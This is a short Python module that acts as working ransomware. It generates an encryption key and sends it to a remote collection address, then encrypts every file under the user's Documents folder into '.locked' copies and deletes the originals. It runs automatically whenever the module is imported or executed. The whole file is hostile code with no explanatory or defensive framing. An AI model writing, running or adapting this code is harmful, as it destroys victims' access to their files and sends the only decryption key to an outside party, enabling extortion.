# place: module
import os
import requests
from cryptography.fernet import Fernet

ADDRESS = "https://collect.example.invalid/key"


def encrypt(path, cipher):
    with open(path, "rb") as file:
        data = cipher.encrypt(file.read())
    with open(path + ".locked", "wb") as file:
        file.write(data)
    os.remove(path)


def main():
    key = Fernet.generate_key()
    requests.post(ADDRESS, data={"key": key})
    for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
        for name in names:
            encrypt(os.path.join(folder, name), Fernet(key))


main()
